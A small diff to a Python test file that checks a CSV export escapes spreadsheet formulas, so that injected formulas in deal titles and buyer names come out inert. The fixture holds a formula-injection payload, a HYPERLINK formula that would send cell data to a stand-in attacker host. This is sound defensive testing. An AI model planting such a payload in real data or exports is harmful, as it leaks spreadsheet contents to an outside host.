@@ -79,7 +79,9 @@ async def test_no_cell_of_a_sheet_is_a_formula_whatever_parts_cells(
 
 @pytest.mark.anyio
 async def test_a_formula_of_a_buyer_is_the_same_json_in_other_letters() -> None:
-    text = await written(sale("Kettle;=1+1", {"name": 'x;=HYPERLINK("http://evil.example/?"&A2);y'}))
+    text = await written(
+        sale("Kettle;=1+1", {"phone": "+33 6", "name": 'x;=HYPERLINK("http://evil.example/?"&A2);y'})
+    )
     (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
     assert row["deal_title"] == "Kettle;'=1+1"
-    assert row["ship_to"].startswith('{"name":"x;\\u003dHYPERLINK(')
+    assert row["ship_to"].startswith('{"phone":"+33 6","name":"x;\\u003dHYPERLINK(')
